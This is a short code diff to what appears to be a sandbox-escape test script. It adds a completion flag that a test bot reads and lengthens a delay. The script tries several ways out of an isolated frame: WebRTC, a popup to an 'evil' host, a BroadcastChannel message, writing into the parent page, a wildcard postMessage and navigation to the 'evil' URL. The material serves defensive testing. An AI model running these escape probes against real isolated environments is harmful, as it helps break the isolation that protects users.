@@ -32,6 +32,7 @@ await attempt("webrtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun
 await attempt("popup", () => open(evil + "popup") || Promise.reject(new Error("blocked")));
 await attempt("broadcast", () => { new BroadcastChannel("spygames").postMessage("pwned"); return "posted"; });
 await attempt("status line", () => parent.document.getElementById("lab-python").textContent = "pwned");
+window.spygamesAttackDone = true; // the bot fails once it reads this (e2e/attack.py)
 parent.postMessage({ attack: found }, "*");
-setTimeout(() => { location.href = evil + "navigate"; }, 100);
+setTimeout(() => { location.href = evil + "navigate"; }, 1000);
 })();
